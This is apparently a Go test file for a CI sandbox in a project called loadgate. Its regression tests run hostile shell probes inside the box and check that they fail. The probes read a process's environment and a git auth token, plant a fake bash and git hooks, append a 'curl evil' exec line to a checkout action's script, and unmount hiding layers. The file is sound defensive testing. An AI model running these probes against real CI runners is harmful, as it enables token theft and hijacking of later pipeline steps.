package sandbox_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/loadgate/loadgate/internal/sandbox"
)

// run runs script boxed in dir with PATH only, skipping (failing under
// LOADGATE_REQUIRE_NETNS=1, as CI sets) where no box can be made.
func run(t *testing.T, ctx context.Context, dir, script string, hide ...string) (string, error) {
	t.Helper()
	return runEnv(t, ctx, dir, script, nil, hide...)
}

// runEnv is run with env added to the command's environment.
func runEnv(t *testing.T, ctx context.Context, dir, script string, env []string, hide ...string) (string, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(ctx, time.Minute)
	defer cancel()
	var out bytes.Buffer
	err := sandbox.Run(ctx, sandbox.Spec{Argv: []string{"sh", "-c", script}, Dir: dir,
		Env: append([]string{"PATH=" + os.Getenv("PATH"), fmt.Sprintf("TESTPID=%d", os.Getpid())}, env...), Hide: hide}, &out)
	if errors.Is(err, sandbox.ErrUnavailable) {
		if os.Getenv("LOADGATE_REQUIRE_NETNS") == "1" {
			t.Fatalf("no box on this system: %v", err)
		}
		t.Skipf("no box on this system: %v", err)
	}
	return out.String(), err
}

// The command runs in its directory, writes there, and its exit status
// comes back.
func TestRunWritesItsDirectoryAndExits(t *testing.T) {
	dir := t.TempDir()
	out, err := run(t, t.Context(), dir, "echo built > artifact; echo done; exit 3")
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.ExitCode() != 3 {
		t.Fatalf("exit: %v, want status 3; output %q", err, out)
	}
	if b, err := os.ReadFile(filepath.Join(dir, "artifact")); err != nil || string(b) != "built\n" {
		t.Errorf("artifact = %q, %v", b, err)
	}
	if !strings.Contains(out, "done") {
		t.Errorf("output %q lacks the command's", out)
	}
}

// The attacks of issue 33 from a head's stack.prepare: read the gate's
// environment through /proc, reach the Docker socket, read a persisted
// checkout token or the other side's checkout, unmount what hides them.
func TestRegression_PrepareReachesTheRunner(t *testing.T) {
	dir, other := t.TempDir(), t.TempDir()
	if err := os.WriteFile(filepath.Join(other, "service.go"), []byte("base's code"), 0o644); err != nil {
		t.Fatal(err)
	}
	gitConfig := filepath.Join(t.TempDir(), "config")
	if err := os.WriteFile(gitConfig, []byte("extraheader = AUTHORIZATION: basic c2VjcmV0\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	script := fmt.Sprintf(`
cat /proc/$TESTPID/environ 2>/dev/null && echo LEAK:environ
ls /proc | grep -qx "$TESTPID" && echo LEAK:pid
ls -A /run /var/run | grep -v '^/\|^$\|^\.sandbox-empty$' && echo LEAK:run
grep -q "base's code" %[1]s/service.go 2>/dev/null && echo LEAK:other
echo tampered > %[1]s/service.go 2>/dev/null
grep -q extraheader %[2]s && echo LEAK:token
umount %[1]s 2>/dev/null; umount /run 2>/dev/null; umount /proc 2>/dev/null
grep -q "base's code" %[1]s/service.go 2>/dev/null && echo LEAK:unmounted
cat /proc/$TESTPID/environ 2>/dev/null && echo LEAK:environ-after-umount
echo checked`, other, gitConfig)
	out, err := run(t, t.Context(), dir, script, other, gitConfig)
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if strings.Contains(out, "LEAK") || !strings.Contains(out, "checked") {
		t.Errorf("the box leaked:\n%s", out)
	}
	if b, _ := os.ReadFile(filepath.Join(other, "service.go")); string(b) != "base's code" {
		t.Errorf("the other side's checkout was rewritten: %q", b)
	}
	if b, _ := os.ReadFile(gitConfig); !strings.Contains(string(b), "extraheader") {
		t.Errorf("the git config was rewritten: %q", b)
	}
}

// Nothing the command starts outlives it: a daemon left running is killed
// with the box.
func TestNothingOutlivesTheBox(t *testing.T) {
	mark := fmt.Sprintf("%d.25", 300+os.Getpid()%1000)
	if _, err := run(t, t.Context(), t.TempDir(), "sleep "+mark+" & echo started"); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(5 * time.Second)
	for {
		left := sleepers(mark)
		if left == 0 {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d processes `sleep %s` outlived the box", left, mark)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func sleepers(mark string) int {
	n := 0
	ps, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, p := range ps {
		if b, err := os.ReadFile(p); err == nil && string(b) == "sleep\x00"+mark+"\x00" {
			n++
		}
	}
	return n
}

// A cancelled context ends the box and what it runs, promptly.
func TestCancelEndsTheBox(t *testing.T) {
	if _, err := run(t, t.Context(), t.TempDir(), "true"); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan error, 1)
	go func() {
		done <- sandbox.Run(ctx, sandbox.Spec{Argv: []string{"sleep", "600"}, Dir: t.TempDir(),
			Env: []string{"PATH=" + os.Getenv("PATH")}}, &bytes.Buffer{})
	}()
	time.Sleep(200 * time.Millisecond)
	cancel()
	select {
	case err := <-done:
		if err == nil {
			t.Error("a cancelled box reported success")
		}
	case <-time.After(30 * time.Second):
		t.Fatal("the box outlived its context by 30 s")
	}
}

// outside is a new directory outside every temporary directory (which the box hides), as a
// runner's home or _work is: beside this package's source, removed after the test.
func outside(t *testing.T) string {
	t.Helper()
	d, err := os.MkdirTemp(".", ".sandbox-test-")
	if err != nil {
		t.Fatal(err)
	}
	d, err = filepath.Abs(d)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(d) })
	return d
}

// absent fails t unless path is gone.
func absent(t *testing.T, path string) {
	t.Helper()
	if _, err := os.Lstat(path); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("%s exists after the box (%v): a write of the change outlived it", path, err)
	}
}

// checked runs script boxed in dir and fails t on a LEAK line or a missing "checked".
func checked(t *testing.T, dir, script string, env ...string) string {
	t.Helper()
	out, err := runEnv(t, t.Context(), dir, script+"\necho checked", env)
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if strings.Contains(out, "LEAK") || !strings.Contains(out, "checked") {
		t.Errorf("the box let a write or read through:\n%s", out)
	}
	return out
}

// Attack (issue 46): head's prepare writes ~/.local/bin/bash, which comes before /usr/bin on a
// hosted runner's PATH, so the later comment step, holding the token, runs it.
func TestRegression_PrepareWritesLocalBinBash(t *testing.T) {
	home := outside(t)
	bin := filepath.Join(home, ".local", "bin")
	if err := os.MkdirAll(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	checked(t, t.TempDir(), fmt.Sprintf(`
[ "$HOME" = %[1]s ] && echo LEAK:home-is-the-runners
printf '#!/bin/sh\\necho owned\\n' > %[2]s/bash 2>/dev/null && echo LEAK:bash
mkdir -p %[1]s/.config/evil 2>/dev/null && echo LEAK:mkdir
mkdir -p "$HOME/.local/bin" && echo '#!/bin/sh' > "$HOME/.local/bin/bash" || echo LEAK:no-scratch-home`, home, bin),
		"HOME="+home)
	absent(t, filepath.Join(bin, "bash"))
	absent(t, filepath.Join(home, ".config"))
}

// Attack (issue 46): head's prepare rewrites the runner's _work/_actions/** (the checkout
// action's post step runs with INPUT_TOKEN), a directory beside the workspace.
func TestRegression_PrepareWritesRunnerActions(t *testing.T) {
	work := outside(t)
	ws := filepath.Join(work, "repo", "repo")
	dist := filepath.Join(work, "_actions", "actions", "checkout", "v4", "dist")
	for _, d := range []string{ws, dist} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	post := filepath.Join(dist, "index.js")
	if err := os.WriteFile(post, []byte("post step\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	checked(t, ws, fmt.Sprintf(`
echo 'require("child_process").exec("curl evil")' >> %[1]s/index.js 2>/dev/null && echo LEAK:append
echo evil > %[1]s/evil.js 2>/dev/null && echo LEAK:create
rm -f %[1]s/index.js 2>/dev/null
echo built > artifact || echo LEAK:checkout-not-writable`, dist))
	// Removal is judged here, outside: where the test's directory lies under /tmp,
	// the box hides it (an empty /tmp), and a test inside would read that as gone.
	if b, err := os.ReadFile(post); err != nil || string(b) != "post step\n" {
		t.Errorf("the action's post step was rewritten or removed: %q, %v", b, err)
	}
	absent(t, filepath.Join(dist, "evil.js"))
	if _, err := os.Stat(filepath.Join(ws, "artifact")); err != nil {
		t.Errorf("the checkout was not writable: %v", err)
	}
}

// Attack (issue 46): head's prepare plants a git hook, run by a later git command of the job
// with the token, or rewrites a local action (.github/actions) a later step runs. Head's checkout is the repository itself (its .git a directory); base's is a
// worktree (its .git a file naming the repository's .git/worktrees/<name>; hooks live in the
// repository's .git/hooks). Both are read-only in the box.
func TestRegression_PrepareWritesGitHooks(t *testing.T) {
	repo := outside(t)
	wt := filepath.Join(t.TempDir(), "base")
	for _, args := range [][]string{{"init", "-q"}, {"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "x"},
		{"worktree", "add", "-q", "--detach", wt}} {
		cmd := exec.Command("git", args...)
		cmd.Dir = repo
		if b, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v: %s", args, err, b)
		}
	}
	gitFile, err := os.ReadFile(filepath.Join(wt, ".git"))
	if err != nil {
		t.Fatal(err)
	}
	for _, dir := range []string{repo, wt} {
		if err := os.MkdirAll(filepath.Join(dir, ".github"), 0o755); err != nil {
			t.Fatal(err)
		}
		checked(t, dir, fmt.Sprintf(`
printf '#!/bin/sh\\necho owned\\n' > %[1]s/.git/hooks/post-checkout 2>/dev/null && echo LEAK:hook
printf '#!/bin/sh\\n' > .git/hooks/pre-commit 2>/dev/null && echo LEAK:relative-hook
[ -f .git ] && { echo "gitdir: /elsewhere" > .git 2>/dev/null && echo LEAK:gitfile; }
mkdir -p .github/actions/notify 2>/dev/null && echo LEAK:local-action
echo built > artifact || echo LEAK:checkout-not-writable`, repo))
	}
	absent(t, filepath.Join(repo, ".git", "hooks", "post-checkout"))
	absent(t, filepath.Join(repo, ".git", "hooks", "pre-commit"))
	if b, _ := os.ReadFile(filepath.Join(wt, ".git")); string(b) != string(gitFile) {
		t.Errorf("the worktree's .git was rewritten: %q", b)
	}
}

// Attack (issue 46): head's prepare writes /tmp (where the gate's worktrees, and other jobs'
// files, live), /var/tmp or /dev/shm, for a later step to find. Its own TMPDIR is the scratch.
func TestRegression_PrepareWritesTmp(t *testing.T) {
	name := fmt.Sprintf("loadgate-planted-%d", os.Getpid())
	checked(t, t.TempDir(), fmt.Sprintf(`
echo x > /tmp/%[1]s 2>/dev/null && echo LEAK:tmp
echo x > /var/tmp/%[1]s 2>/dev/null && echo LEAK:var-tmp
echo x > /dev/shm/%[1]s 2>/dev/null
echo x > "$TMPDIR/%[1]s" || echo LEAK:no-scratch-tmpdir`, name))
	for _, d := range []string{"/tmp", "/var/tmp", "/dev/shm", os.TempDir()} {
		absent(t, filepath.Join(d, name))
	}
}

// Attack (issue 46): head's prepare reads what else the temporary directory holds (other runs'
// worktrees, named by their run) from a listing or from /proc/self/mountinfo.
func TestRegression_PrepareListsTheTemporaryDirectory(t *testing.T) {
	other := filepath.Join(os.TempDir(), fmt.Sprintf("loadgate-worktrees-%d-other-run-%d", os.Getuid(), os.Getpid()))
	if err := os.MkdirAll(other, 0o700); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(other) })
	name := filepath.Base(other)
	checked(t, t.TempDir(), fmt.Sprintf(`
ls -A /tmp /var/tmp "$TMPDIR" 2>/dev/null | grep -q %[1]s && echo LEAK:listing
grep -q %[1]s /proc/self/mountinfo && echo LEAK:mountinfo
[ -e %[2]s ] && echo LEAK:stat`, name, other))
}

// The scratch is the command's HOME, TMPDIR and XDG dirs, writable, and gone after the box.
func TestPrepareScratchIsHomeAndGoneAfter(t *testing.T) {
	mark := fmt.Sprintf("scratch-mark-%d", os.Getpid())
	out := checked(t, t.TempDir(), fmt.Sprintf(`
for d in "$HOME" "$TMPDIR" "$XDG_CACHE_HOME" "$XDG_CONFIG_HOME" "$XDG_DATA_HOME" "$XDG_STATE_HOME"; do
  echo x > "$d/%s" || echo LEAK:not-writable:$d
done
echo "home=$HOME"`, mark))
	if !strings.Contains(out, "home="+sandbox.ScratchDir+"/") {
		t.Errorf("HOME is not in the scratch:\n%s", out)
	}
	left, _ := filepath.Glob(filepath.Join(os.TempDir(), "loadgate-prepare-*", "*", mark))
	if len(left) > 0 {
		t.Errorf("the scratch outlived the box: %v", left)
	}
}

// Go's caches are the scratch's (a read-only cache would fail the build, a shared one could be
// poisoned for the other side); the runner's module cache is read through GOPROXY=file://.
func TestPrepareGoCachesInTheScratch(t *testing.T) {
	home := outside(t)
	dl := filepath.Join(home, "go", "pkg", "mod", "cache", "download")
	if err := os.MkdirAll(dl, 0o755); err != nil {
		t.Fatal(err)
	}
	out := checked(t, t.TempDir(), `
echo "vars=$GOCACHE|$GOMODCACHE|$GOPATH"
echo "proxy=$GOPROXY"
command -v go >/dev/null && echo "go=$(go env GOCACHE)|$(go env GOMODCACHE)"`,
		"HOME="+home, "GOCACHE="+filepath.Join(home, ".cache", "go-build"), "GOPATH="+filepath.Join(home, "go"), "GOPROXY=https://proxy.example,direct")
	if !strings.Contains(out, "vars=||\n") {
		t.Errorf("Go's cache variables reach the box:\n%s", out)
	}
	if !strings.Contains(out, "proxy=file://"+dl+",https://proxy.example,direct\n") {
		t.Errorf("GOPROXY does not read the runner's module cache first:\n%s", out)
	}
	if strings.Contains(out, "go=") && !strings.Contains(out, "go="+sandbox.ScratchDir+"/cache/go-build|"+sandbox.ScratchDir+"/home/go/pkg/mod\n") {
		t.Errorf("go puts its caches outside the scratch:\n%s", out)
	}
}

// A host mount the box's covers shadow (as a runner's tmpfs under $TMPDIR, or systemd's
// binfmt_misc under /proc) does not stop the box: out of reach, it needs no remount.
func TestBoxWithAMountUnderTheTemporaryDirectory(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("mounting a host tmpfs needs root")
	}
	if _, err := run(t, t.Context(), t.TempDir(), "true"); err != nil { // skips where no box at all
		t.Fatal(err)
	}
	mnt := filepath.Join(t.TempDir(), "mnt")
	if err := os.Mkdir(mnt, 0o755); err != nil {
		t.Fatal(err)
	}
	if b, err := exec.Command("mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", mnt).CombinedOutput(); err != nil {
		t.Skipf("mount: %v: %s", err, b)
	}
	t.Cleanup(func() { exec.Command("umount", mnt).Run() })
	ck := filepath.Join(mnt, "checkout")
	if err := os.Mkdir(ck, 0o755); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	err := sandbox.Run(t.Context(), sandbox.Spec{Argv: []string{"sh", "-c", `echo built > artifact || echo LEAK:checkout-not-writable
echo x > ../planted 2>/dev/null && echo LEAK:beside-the-checkout
true`}, Dir: ck, Env: []string{"PATH=" + os.Getenv("PATH")}}, &out)
	if err != nil || strings.Contains(out.String(), "LEAK") {
		t.Fatalf("%v\n%s", err, out.String())
	}
	absent(t, filepath.Join(mnt, "planted"))
}

// Go's caches in the box start warm and stay the runner's: the runner's build
// cache is read through a copy-on-write overlay at the scratch's GOCACHE, so
// a side's build reuses it (a cold cache cost the demo's build minutes) while
// nothing it writes there, or changes, reaches the runner's or the other side's.
func TestPrepareGoCacheWarmAndCopyOnWrite(t *testing.T) {
	home := outside(t)
	cache := filepath.Join(home, ".cache", "go-build")
	if err := os.MkdirAll(cache, 0o755); err != nil {
		t.Fatal(err)
	}
	entry := filepath.Join(cache, "entry-d")
	if err := os.WriteFile(entry, []byte("compiled\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out := checked(t, t.TempDir(), `
c=`+sandbox.ScratchDir+`/cache/go-build
[ "$(cat $c/entry-d 2>/dev/null)" = compiled ] && echo warm
echo poisoned > $c/entry-d || echo BROKEN:entry-not-writable-in-box
echo new > $c/new-d || echo BROKEN:cache-not-writable-in-box`,
		"HOME="+home, "GOCACHE="+cache)
	if !strings.Contains(out, "warm") {
		if os.Getuid() == 0 { // root (CI, this machine): an overlay in the box's namespace mounts
			t.Fatalf("the runner's build cache is not read in the box:\n%s", out)
		}
		t.Skipf("no overlay here (the build starts cold):\n%s", out)
	}
	if strings.Contains(out, "BROKEN") {
		t.Errorf("Go could not write its cache in the box:\n%s", out)
	}
	if b, _ := os.ReadFile(entry); string(b) != "compiled\n" {
		t.Errorf("the box changed the runner's cache entry: %q", b)
	}
	absent(t, filepath.Join(cache, "new-d"))
}
